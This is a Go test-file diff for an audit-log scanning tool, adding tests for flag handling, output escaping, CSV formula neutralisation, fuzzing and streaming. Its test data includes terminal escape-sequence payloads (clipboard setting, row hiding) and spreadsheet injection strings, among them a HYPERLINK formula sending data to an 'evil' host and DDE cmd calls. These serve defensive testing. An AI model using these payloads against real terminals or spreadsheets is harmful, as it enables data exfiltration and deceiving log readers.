@@ -9,8 +9,12 @@ import (
 	"io"
 	"os"
 	"path/filepath"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
+	"unicode/utf16"
+	"unicode/utf8"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
@@ -196,6 +200,32 @@ func TestScanFlagsAfterFiles(t *testing.T) {
 	assert.Len(t, scanCSV(t, r.out), 2)
 }
 
+// TestScanCodesAddUp: repeated --codes add up, as repeated --filter do.
+// 0.1.0 and the first scan kept the last list only, so --codes 401 --codes
+// 403 dropped every 401 without a word.
+func TestScanCodesAddUp(t *testing.T) {
+	forbidden := call401
+	forbidden.code = 403
+	logs := writeFile(t, "a.log", call401.line()+"\n"+forbidden.line()+"\n")
+	for _, args := range [][]string{
+		{"--codes", "401", "--codes", "403"},
+		{"--codes=403", "--codes", "401,401"},
+		{"--codes", "401,403"},
+	} {
+		r := scan(t, "", append(args, "--format", "csv", logs)...)
+		require.Equal(t, 0, r.code, r.err)
+		var codes []string
+		for _, row := range scanCSV(t, r.out)[1:] {
+			codes = append(codes, row[9])
+		}
+		assert.Equal(t, []string{"401", "403"}, codes, "%v", args)
+	}
+	cfg, err := parseScan([]string{"--codes", "403"})
+	require.NoError(t, err)
+	assert.Equal(t, []int{403}, cfg.opts.Codes, "the first list replaces the default")
+	assert.Equal(t, []int{401}, DefaultCodes, "and leaves it alone")
+}
+
 // TestScanStdin is defect 11: standard input is read when FILE is - or
 // when it is not a terminal; the bundled sample only in a terminal, and
 // then it says so.
@@ -323,6 +353,29 @@ func TestScanDocumentTooLarge(t *testing.T) {
 }
 
 // TestScanDirectory is defect 17: a directory is named as one.
+// TestScanFileNames: a file name is whatever the file's creator chose, and
+// a shell glob over a log folder hands it to scan; on stderr it is escaped
+// like a table cell, in every message that names it. The first scan
+// wrote it raw: a name could clear the screen or retitle the terminal.
+func TestScanFileNames(t *testing.T) {
+	dir := t.TempDir()
+	evil := filepath.Join(dir, "evil\x1b[2J\x1b]0;pwned\x07\u202e.json")
+	require.NoError(t, os.WriteFile(evil, []byte(call401.line()+"\nnot json\n{\"a\":\n"), 0o644))
+	sub := filepath.Join(dir, "dir\x1b[31m")
+	require.NoError(t, os.Mkdir(sub, 0o755))
+	allow := filepath.Join(dir, "allow\x1b[31m.csv")
+	require.NoError(t, os.WriteFile(allow, []byte("sourceIP,comment\n192.0.2.1,x\n"), 0o644))
+	r := scan(t, "", evil, filepath.Join(dir, "gone\x1b[31m.json"), sub, "--filter", allow)
+	assert.Equal(t, 2, r.code)
+	assert.Contains(t, r.err, `allow\x1b[31m.csv`, "the closing counts name the allowlist")
+	assert.True(t, visible(r.err, true), "%q", r.err)
+	assert.Contains(t, r.err, `evil\x1b[2J\x1b]0;pwned\a\u202e.json line 2: not JSON`)
+	assert.Contains(t, r.err, `evil\x1b[2J\x1b]0;pwned\a\u202e.json line 3: JSON document never ends`)
+	assert.Contains(t, r.err, `gone\x1b[31m.json: no such file or directory`)
+	assert.Contains(t, r.err, `dir\x1b[31m is a directory`)
+	assert.Equal(t, 2, strings.Count(r.out, "\n"), "the header and the file's row")
+}
+
 func TestScanDirectory(t *testing.T) {
 	dir := t.TempDir()
 	r := scan(t, "", dir)
@@ -364,12 +417,13 @@ func TestScanFormats(t *testing.T) {
 	assert.Equal(t, Columns, rows[0])
 	assert.Equal(t, "1795165200.250000", rows[1][0])
 	assert.Equal(t, "10.0.0.5\n198.51.100.7", rows[1][1])
-	assert.Equal(t, c.ua, rows[1][2])
+	assert.Equal(t, `evil\x1b[31m\u009b red, "quoted"`, rows[1][2], "escaped as in the table")
 
 	r = scan(t, "", "--format", "json", logs)
 	require.Equal(t, 0, r.code, r.err)
 	var obj map[string]any
 	require.NoError(t, json.Unmarshal([]byte(r.out), &obj))
+	assert.Equal(t, c.ua, obj["userAgent"], "exact")
 	assert.Equal(t, []any{"10.0.0.5", "198.51.100.7"}, obj["sourceIPs{}"])
 	assert.Equal(t, "198.51.100.7", obj["src_ip"])
 	assert.Equal(t, []any{}, obj["user.groups{}"])
@@ -381,6 +435,194 @@ func TestScanFormats(t *testing.T) {
 	assert.Contains(t, r.out, "2026-11-20T09:00:00.25Z  10.0.0.5, 198.51.100.7  ")
 	assert.NotContains(t, r.out, "\x1b")
 	assert.NotContains(t, r.out, "\u009b")
+}
+
+// hostileValues are what a client can put in its user agent or request
+// URI, and through them in every output: escape sequences that clear the
+// screen, move the cursor up and erase the line above (hiding a row), set
+// the clipboard (OSC 52); a newline or carriage return that starts a
+// forged row; C1 controls, bidi overrides that reorder what follows,
+// zero-width and separator characters; invalid UTF-8.
+var hostileValues = []string{
+	"\x1b[2J\x1b[H", "x\x1b[1A\x1b[2K", "\x1b]52;c;ZXZpbA==\x07", "a\nb\tc\rd",
+	"2026-11-20T09:00:00Z  10.0.0.1\r\n2026-11-20T09:00:01Z  forged",
+	"\u009b31m", "\u202eevil\u202c", "zero\u200bwidth\ufeff", "line\u2028para\u2029", "nb\u00a0sp", "tag\U000E0041",
+	"bad \xff\xfe utf-8", "\x00nul", "\x7fdel",
+}
+
+// visible tells whether s holds only printable characters and ASCII
+// spaces, with line breaks where allowed.
+func visible(s string, breaks bool) bool {
+	for _, r := range s {
+		if r == '\n' && breaks {
+			continue
+		}
+		if !strconv.IsPrint(r) {
+			return false
+		}
+	}
+	return true
+}
+
+// TestTerminalSafe: whatever a client sent, no output format sends a
+// terminal anything but visible characters and the line breaks that end
+// rows (and, in CSV, separate a list's values inside quotes). The table
+// and CSV escape what is not printable, JSON writes \u escapes that decode
+// back to the exact value. The first scan sent bidi overrides, zero-width
+// and line-separator characters raw in the table, and every control
+// character raw in CSV; its JSON sent C1 controls and bidi overrides raw.
+func TestTerminalSafe(t *testing.T) {
+	var lines []string
+	for i, v := range hostileValues {
+		c := call401
+		c.ua, c.uri = v, "/api/"+v
+		c.ips = []string{"10.0.0.5", fmt.Sprintf("198.51.100.%d", i)}
+		lines = append(lines, c.line())
+	}
+	logs := writeFile(t, "a.log", strings.Join(lines, "\n")+"\n")
+	for _, args := range [][]string{{}, {"--format", "csv"}, {"--format", "json"}, {"--summary"}, {"--summary", "--format", "csv"}, {"--summary", "--format", "json"}} {
+		r := scan(t, "", append(args, logs)...)
+		require.Equal(t, 0, r.code, r.err)
+		csv := slices.Contains(args, "csv")
+		assert.True(t, visible(r.out, true), "%v: only visible characters and line breaks:\n%q", args, r.out)
+		if !csv {
+			header := 1
+			if slices.Contains(args, "json") {
+				header = 0
+			}
+			assert.Equal(t, len(hostileValues)+header, strings.Count(r.out, "\n"), "%v: one line per row or source", args)
+		}
+	}
+	r := scan(t, "", "--format", "json", logs)
+	for i, l := range strings.Split(strings.TrimSpace(r.out), "\n") {
+		var obj map[string]any
+		require.NoError(t, json.Unmarshal([]byte(l), &obj))
+		var logged string // the value as the log holds it: json.Marshal replaced invalid UTF-8
+		b, _ := json.Marshal(hostileValues[i])
+		require.NoError(t, json.Unmarshal(b, &logged))
+		assert.Equal(t, logged, obj["userAgent"], "JSON keeps the value")
+	}
+	r = scan(t, "", "--format", "csv", logs)
+	rows := scanCSV(t, r.out)
+	require.Len(t, rows, len(hostileValues)+1)
+	for i, row := range rows[1:] {
+		assert.True(t, visible(row[2], false), "only visible characters in a CSV value: %q", row[2])
+		assert.Equal(t, "10.0.0.5\n"+row[7], row[1], "a list's values are split by newlines only")
+		assert.Equal(t, string(appendCell(nil, hostileValues[i])), row[2])
+	}
+}
+
+// FuzzJSONString: the JSON writer's strings decode to the value that
+// encoding/json writes and reads back, and hold only visible characters.
+func FuzzJSONString(f *testing.F) {
+	for _, v := range hostileValues {
+		f.Add(v)
+	}
+	f.Fuzz(func(t *testing.T, v string) {
+		out := appendJSONString(nil, v)
+		if !visible(string(out), false) {
+			t.Fatalf("%q: not only visible characters: %q", v, out)
+		}
+		var got, want string
+		if err := json.Unmarshal(out, &got); err != nil {
+			t.Fatalf("%q: %q is not a JSON string: %v", v, out, err)
+		}
+		b, _ := json.Marshal(v)
+		json.Unmarshal(b, &want)
+		if got != want {
+			t.Fatalf("%q: read back %q, want %q", v, got, want)
+		}
+	})
+}
+
+// TestCSVFormulas: a CSV cell that a spreadsheet would run as a formula
+// (=HYPERLINK that sends the sheet away, a DDE command) starts with ',
+// and nothing else is touched. The first scan wrote them as they came.
+func TestCSVFormulas(t *testing.T) {
+	for _, tc := range []struct{ ua, want string }{
+		{`=HYPERLINK("http://evil/?"&A1,"x")`, `'=HYPERLINK("http://evil/?"&A1,"x")`},
+		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+		{"＝1+1", "'＝1+1"},
+		{"\t=1+1", `\t=1+1`}, // escaped: the cell starts with a backslash
+		{"\r=1+1", `\r=1+1`},
+		{"curl/8.5.0 (=1+1)", "curl/8.5.0 (=1+1)"},
+		{"'quoted", "'quoted"},
+	} {
+		c := call401
+		c.ua = tc.ua
+		r := scan(t, "", "--format", "csv", writeFile(t, "a.log", c.line()+"\n"))
+		require.Equal(t, 0, r.code, r.err)
+		rows := scanCSV(t, r.out)
+		require.Len(t, rows, 2)
+		assert.Equal(t, tc.want, rows[1][2], tc.ua)
+		assert.Equal(t, "/api/v1/secrets", rows[1][4], "other cells untouched")
+
+		r = scan(t, "", "--format", "json", writeFile(t, "a.log", c.line()+"\n"))
+		var obj map[string]any
+		require.NoError(t, json.Unmarshal([]byte(r.out), &obj))
+		assert.Equal(t, tc.ua, obj["userAgent"], "JSON is exact")
+	}
+}
+
+// TestValuesCut: a value longer than maxValue is printed cut, ending in
+// "…", and a list stops at maxValue bytes with a last "…"; the cut falls
+// between characters. Before, a 60 MB user agent of escape characters
+// became 2 GB of JSON in memory, and a list of millions of empty values
+// a slice of millions of strings.
+func TestValuesCut(t *testing.T) {
+	long := strings.Repeat("é", maxValue) // two bytes each
+	got := one([]byte(long))
+	require.Len(t, got, 1)
+	assert.Equal(t, long[:maxValue]+"…", got[0])
+	assert.True(t, utf8.ValidString(one([]byte("x" + long))[0]), "never half a character")
+	assert.Equal(t, []string{"a"}, one([]byte("a")))
+	assert.Nil(t, one(nil))
+
+	empties := make([][]byte, 10*maxValue)
+	got = many(empties)
+	assert.Len(t, got, maxValue+1)
+	assert.Equal(t, "…", got[maxValue])
+	assert.Equal(t, []string{"a", "b"}, many([][]byte{[]byte("a"), []byte("b")}))
+	got = many([][]byte{[]byte(long), []byte("b")})
+	assert.Equal(t, []string{long[:maxValue], "…"}, got)
+
+	// End to end, in every format: the row is there, its value cut.
+	c := call401
+	c.ua = strings.Repeat("\x1b", 3*maxValue)
+	logs := writeFile(t, "a.log", c.line()+"\n")
+	for _, format := range []string{"table", "csv", "json"} {
+		r := scan(t, "", "--format", format, logs)
+		require.Equal(t, 0, r.code, r.err)
+		assert.Contains(t, r.out, "…", format)
+		assert.Contains(t, r.out, "/api/v1/secrets", format)
+		assert.Less(t, len(r.out), 8*maxValue, format)
+	}
+}
+
+// TestRowsStream: the rows of one document are written as they come, not
+// held until the document ends: a records batch of 20,000 401s is written
+// in pieces of about flushAt bytes. Before, it was one write of every row,
+// and a 63 MB batch of small 401s took 884 MB of memory as JSON.
+func TestRowsStream(t *testing.T) {
+	rec := `{"kind":"Event","stage":"ResponseStarted","sourceIPs":["203.0.113.9"],"responseStatus":{"code":401}}`
+	batch := `{"records":[` + strings.TrimSuffix(strings.Repeat(rec+",", 20000), ",") + "]}\n"
+	for format, lines := range map[string]int{"table": 20001, "csv": 20001, "json": 20000} { // JSON has no header
+		var w largestWrite
+		code := Scan([]string{"--format", format, "-"}, Stdin{Reader: strings.NewReader(batch)}, &w, io.Discard)
+		require.Equal(t, 0, code)
+		assert.Equal(t, lines, w.lines, format)
+		assert.Less(t, w.largest, 3*flushAt, format)
+	}
+}
+
+type largestWrite struct{ largest, lines int }
+
+func (w *largestWrite) Write(p []byte) (int, error) {
+	w.largest = max(w.largest, len(p))
+	w.lines += bytes.Count(p, []byte("\n"))
+	return len(p), nil
 }
 
 // TestTableStreams is defect 17: the table holds only its first rows, to
@@ -441,10 +683,31 @@ func FuzzScan(f *testing.F) {
 	f.Add([]byte(`["", {}]`))
 	f.Add([]byte("{\"records\":[\n" + call401.line() + ",\n{\"a\":\"cut\n"))
 	f.Add([]byte("\xEF\xBB\xBF[[{\"kind\":\"Event\",\"responseStatus\":{\"code\":401}}]]"))
+	f.Add([]byte("\xfe\xff\x00{\xd8"))
+	f.Add([]byte("\xff\xfe{\x00"))
+	f.Add([]byte("\x1f\x8b"))
 	f.Fuzz(func(t *testing.T, in []byte) {
 		// The input, then a line break and a good record: whatever the
-		// input left open, the record's own line starts it afresh.
-		content := append(append(in, '\n'), call401.line()...)
+		// input left open, the record's own line starts it afresh. A file
+		// that starts with a UTF-16 byte order mark is UTF-16 text, so
+		// there the line break and the record are UTF-16 too, a whole
+		// number of code units from the start.
+		content := append(slices.Clip(in), '\n')
+		if len(in) >= 2 && (in[0] == 0xfe && in[1] == 0xff || in[0] == 0xff && in[1] == 0xfe) {
+			content = slices.Clip(in)
+			if len(content)%2 == 1 {
+				content = append(content, 0)
+			}
+			for _, u := range utf16.Encode([]rune("\n" + call401.line())) {
+				if in[0] == 0xfe {
+					content = append(content, byte(u>>8), byte(u))
+				} else {
+					content = append(content, byte(u), byte(u>>8))
+				}
+			}
+		} else {
+			content = append(content, call401.line()...)
+		}
 		var out, errOut bytes.Buffer
 		code := Scan([]string{"--format", "json", "-"}, Stdin{Reader: bytes.NewReader(content)}, &out, &errOut)
 		if strings.Contains(errOut.String(), "internal error") {
@@ -455,6 +718,13 @@ func FuzzScan(f *testing.F) {
 		}
 		if code == 0 && strings.Contains(errOut.String(), " line ") {
 			t.Fatalf("a problem was reported but the exit status is 0: %s", errOut.String())
+		}
+		if bytes.HasPrefix(in, []byte("\x1f\x8b")) {
+			// A gzip stream: whatever follows it is not gzip, and says so.
+			if code != 2 || !strings.Contains(errOut.String(), "gzip") {
+				t.Fatalf("text after a gzip stream: exit status %d, %s", code, errOut.String())
+			}
+			return
 		}
 		if !strings.HasSuffix(out.String(), `"auditID":"","stage":"ResponseStarted","user.groups{}":[]}`+"\n") {
 			t.Fatalf("the good record after the input is lost:\n%s\n%s", out.String(), errOut.String())
